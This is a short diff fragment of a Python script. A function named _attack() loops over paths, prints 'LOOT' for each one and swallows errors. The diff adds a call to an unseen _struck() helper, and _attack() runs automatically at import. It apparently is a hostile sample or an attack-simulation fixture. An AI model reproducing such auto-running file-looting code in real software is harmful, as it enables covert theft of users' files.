@@ -9,6 +9,7 @@ def _attack():
             print("LOOT", path)
         except OSError:
             pass
+    _struck()
 
 
 _attack()
